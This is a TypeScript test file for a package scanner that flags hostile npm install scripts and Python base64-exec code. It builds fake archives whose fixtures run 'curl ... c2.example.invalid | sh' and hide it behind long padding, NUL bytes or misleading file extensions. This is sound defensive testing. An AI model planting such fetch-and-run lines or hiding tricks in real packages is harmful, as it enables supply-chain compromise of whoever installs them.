import { expect, test } from 'vitest'
import { followedScripts } from '../../../../src/modules/scanning/analysis/rules/install-commands.ts'
import { analyseHere, rulesOf } from './analyse-here.ts'
import { tgzOf } from './pack-archive.ts'

const evil = "require('child_process').exec('curl -s https://c2.example.invalid | sh')"
type Files = Readonly<Record<string, string | Buffer>>
const reportOf = async (install: string, files: Files, more: object = {}) => {
  const manifest = { name: 'package/package.json', content: JSON.stringify({ scripts: { install }, ...more }) }
  const packed = Object.entries(files).map(([name, content]) => ({ name: `package/${name}`, content }))
  return analyseHere({ kind: 'npm', blobs: [{ bytes: await tgzOf([manifest, ...packed]) }] })
}
const rulesFor = async (install: string, files: Files) => rulesOf(await reportOf(install, files))

test.each([
  ['node x', { x: evil }],
  ['node x', { x: `/* \0 */ ${evil}` }],
  ['node ./x.txt --quiet', { 'x.txt': evil }],
  ['node -r ./x.png y.js', { 'x.png': evil, 'y.js': '' }],
  ['node index', { 'index.js': "require('./lib/x.dat')", 'lib/x.dat': evil }],
  ['node -e "require(\'./x\')"', { x: evil }],
  ['node a.js', { 'a.js': "require('child_process').fork('./x')", x: evil }],
  ['cat data.json | sh', { 'data.json': 'curl -s https://c2.example.invalid/i | sh\n' }],
  ['sh x', { x: 'curl -s https://c2.example.invalid/i | sh\n' }],
])('what an install command reaches is read whatever its name: %s', async (command, files) => {
  expect(await rulesFor(command, files)).toContain('npm/install-script-downloads')
})

test('a text that nothing starts is no code, and JSON that code loads is none', async () => {
  expect(await rulesFor('node a.js', { 'a.js': '', 'x.txt': evil })).toEqual([])
  expect(await rulesFor('node a.js', { 'a.js': "require('./x.json')", 'x.json': evil })).toEqual([])
})

const program = Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(5000)])
const long = (code: string) => `/*${' '.repeat(300_000)}*/ ${code}`

test('a file of the package that an install command starts and that was not read is told of; one that is not there is not', async () => {
  expect(await rulesFor('node x', { x: `${' '.repeat(300_000)}1` })).toEqual(['npm/install-script-unread'])
  expect(await rulesFor('cat x | sh', { x: `${'#'.repeat(300_000)}1` })).toEqual(['npm/install-script-unread'])
  expect(await rulesFor('node x', { y: program })).toEqual(['npm/unexpected-native'])
  expect(await rulesFor('node x', { x: program })).toContain('npm/install-script-unread')
})

test('code behind 256 KiB of a file that other code loads at installation was clean without a gap', async () => {
  const files = { 'a.js': "require('./data.bin'); require('./big.json'); require('./big.png')", 'data.bin': long(evil) }
  const pictures = {
    'big.json': `"${'x'.repeat(300_000)}"`,
    'big.png': Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(300_000, 'x')]),
  }
  const report = await reportOf('node a.js', { ...files, ...pictures })
  expect(rulesOf(report)).toEqual(['npm/install-script-unread'])
  expect(report.gaps).toEqual(['package/data.bin: is loaded as code and was not read to its end'])
})

test('an entry point whose code lies behind 256 KiB was clean without a gap', async () => {
  const report = await reportOf('', { core: long(evil) }, { main: 'core' })
  expect(report.gaps).toEqual(['package/core: is loaded as code and was not read to its end'])
  const css = `a{}${' '.repeat(300_000)}`
  const exports = { '.': { types: './x.d.ts', default: './x.js' }, './x.css': './x.css', './types': { types: './x.d.ts' } }
  expect((await reportOf('', { 'x.js': '', 'x.d.ts': css, 'x.css': css }, { exports })).gaps).toEqual([])
  expect((await reportOf('', { 'x.css': css }, { exports: { '.': './x.css' } })).gaps).toHaveLength(1)
})

test('code among many NUL was read by nobody, and one that is an archive by no rule', async () => {
  const hidden = Buffer.concat([Buffer.from('/*'), Buffer.alloc(50_000), Buffer.from(`*/ ${evil}`)])
  expect(await rulesFor('node a.js', { 'a.js': "require('./data.bin')", 'data.bin': hidden })).toContain('npm/install-script-downloads')
  const archive = await tgzOf([{ name: 'x', content: 'x' }])
  expect(await rulesFor('node a.js', { 'a.js': "require('./data.bin')", 'data.bin': archive })).toEqual(['npm/install-script-unread'])
})

test('scripts that scripts run are followed, with what comes before and after, to depth 5', () => {
  const scripts = new Map(
    Object.entries({
      prea: 'one',
      a: 'yarn run b',
      b: 'pnpm c && npm test',
      c: 'bun run d',
      d: 'npm run -s e',
      e: 'npm run f',
      f: 'npm run g',
      g: 'no',
    }),
  )
  scripts.set('posttest', 'two').set('test', 'three').set('install', 'npm run a')
  const of = (command: string) => followedScripts([{ where: 'scripts.install', command }], scripts).map(({ where }) => where.slice(8))
  expect(of('npm run a')).toEqual(['install', 'prea', 'a', 'b', 'c', 'test', 'posttest', 'd', 'e'])
  expect(of('npm --prefix . run-script a -- --x')).toContain('a')
  expect(of('FOO=1 $npm_execpath run "g"')).toEqual(['install', 'g'])
  expect(of('node --run g')).toEqual(['install', 'g'])
  expect(of('run-s g')).toEqual(['install', 'g'])
  expect(of('npm install g')).toEqual(['install'])
  scripts.set('loop', 'npm run loop')
  expect(of('npm run loop')).toEqual(['install', 'loop'])
})

test('of files that come twice both count, whichever the unpacker keeps', async () => {
  const [clean, bad] = ['{"scripts":{"install":"node x.js"}}', '{"scripts":{"install":"curl -s https://c2.example.invalid | sh"}}']
  const rulesOfAll = async (files: readonly (readonly [string, string])[]) =>
    rulesOf(await analyseHere({ kind: 'npm', blobs: [{ bytes: await tgzOf(files.map(([name, content]) => ({ name, content }))) }] }))
  for (const contents of [
    [clean, bad],
    [bad, clean],
  ])
    for (const second of ['package/package.json', 'other/package.json'])
      expect(
        await rulesOfAll([
          ['package/package.json', contents[0] ?? ''],
          [second, contents[1] ?? ''],
        ]),
      ).toContain('npm/install-script-downloads')
  for (const contents of [
    ['1', evil],
    [evil, '1'],
  ])
    expect(
      await rulesOfAll([
        ['package/package.json', clean],
        ['package/x.js', contents[0] ?? ''],
        ['y/x.js', contents[1] ?? ''],
      ]),
    ).toContain('npm/install-script-downloads')
})

test('files of Python packages that differ in their first folder only are all judged', async () => {
  const bad = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'
  const files = [
    { name: 'a/__init__.py', content: bad },
    { name: 'b/__init__.py', content: 'x = 1\n' },
  ]
  expect(rulesOf(await analyseHere({ kind: 'generic', blobs: [{ bytes: await tgzOf(files) }] }))).toEqual(['python/eval-of-decoded'])
})
